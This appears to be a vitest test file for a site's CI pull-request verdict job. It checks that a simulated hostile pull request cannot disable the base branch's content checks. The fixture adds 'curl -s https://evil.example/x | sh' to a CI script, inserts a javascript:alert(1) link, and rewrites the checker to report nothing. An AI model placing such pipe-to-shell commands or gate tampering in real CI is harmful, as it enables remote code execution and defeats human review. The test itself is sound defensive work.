import { mkdtemp, readFile, rm, symlink } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { npmRun } from '../helpers/astro-build';
import { PROJECT_ROOT } from '../helpers/paths';
import { followUpOfAlpha, projectRepository, type ProjectRepository } from '../helpers/project-repository';

// The verdict job of .github/workflows/pr-verdict.yml, run as CI runs it: the base branch
// checked out, the pull request's commit beside it as data. The pull request rewrites the code
// that judges (the checks find nothing, the summary says all is well) and .ci/run, adds a post
// with a javascript: link and renames a published heading. The verdict is still the base's.

let repo: ProjectRepository;
let work = '';

beforeAll(async () => {
  repo = await projectRepository('kubecon-recap-verdict');
  work = await mkdtemp(join(tmpdir(), 'kubecon-recap-verdict-out-'));
  await repo.edit(
    'src/lib/checks/run.ts',
    'return { diagnostics: sortDiagnostics(diagnostics), fileCount: files.length };',
    'return { diagnostics: [], fileCount: files.length };',
  );
  await repo.edit('src/lib/authoring/pr-summary.ts', "## Verdict of the base branch's checks", '## Verdict: all good, nothing to review');
  await repo.edit('.ci/run', 'npm test', 'npm test\ncurl -s https://evil.example/x | sh');
  await repo.write('content/posts/de/alpha-extra.md', followUpOfAlpha('Alpha, once more', 'Read [this](javascript:alert(1)).'));
  await repo.edit('content/posts/en/alpha.md', '{#how-it-works}', '{#steps}');
  repo.git('add', '-A');
  repo.git('commit', '-q', '-m', 'pr');
  // As pull_request_target checks out: the base branch is the working tree.
  repo.git('checkout', '-q', 'main');
}, 60_000);
afterAll(async () => {
  await repo.remove();
  await rm(work, { recursive: true, force: true });
});

/** Runs the verdict from the checkout at `codeRoot` on branch pr of the repository; its summary too. */
async function verdictFrom(codeRoot: string, name: string): Promise<{ exitCode: number; output: string; summary: string }> {
  const summaryFile = join(work, `${name}.md`);
  const args = ['--repo', repo.root, 'main', 'pr'];
  const { exitCode, output } = await npmRun(codeRoot, 'pr:verdict', { GITHUB_STEP_SUMMARY: summaryFile }, args);
  return { exitCode, output, summary: await readFile(summaryFile, 'utf8').catch(() => '') };
}

test('npm run pr:verdict judges a pull request that rewrites the gate with the base’s code: the findings, the removed heading, and every file for a maintainer', async () => {
  const { exitCode, output, summary } = await verdictFrom(repo.root, 'base');
  expect(exitCode, output).toBe(1);
  expect(output).toContain(
    'content/posts/de/alpha-extra.md:9 error attribute href="javascript:alert(1)" on <a>: is not an address a post may link to',
  );
  expect(output).toContain(
    'content/posts/en/alpha.md error #how-it-works: was published at /en/posts/alpha/#how-it-works and this page no longer has it',
  );
  expect(summary).toContain(`The content checks of \`${repo.git('rev-parse', 'main').slice(0, 12)}\` read`);
  expect(summary).toMatch(/\*\*2 error\(s\), \d+ warning\(s\)\*\*/);
  expect(summary).toContain('| `alpha-extra` | added | de |');
  const [, maintainer = ''] = summary.split("## Files that need a maintainer's review");
  for (const file of ['.ci/run', 'src/lib/authoring/pr-summary.ts', 'src/lib/checks/run.ts'])
    expect(maintainer).toContain(`| \`${file}\` | changed |`);
  expect(maintainer).not.toContain('| `content/posts/');
  expect(summary).not.toContain('all good');
  // The pull request's own code, run from its checkout, would have said all is well.
  const checkout = join(work, 'pr-checkout');
  repo.git('worktree', 'add', '-q', checkout, 'pr');
  await symlink(join(PROJECT_ROOT, 'node_modules'), join(checkout, 'node_modules'), 'dir');
  const own = await verdictFrom(checkout, 'pr');
  expect(own.exitCode, own.output).toBe(0);
  expect(own.summary).toContain('## Verdict: all good, nothing to review');
}, 120_000);
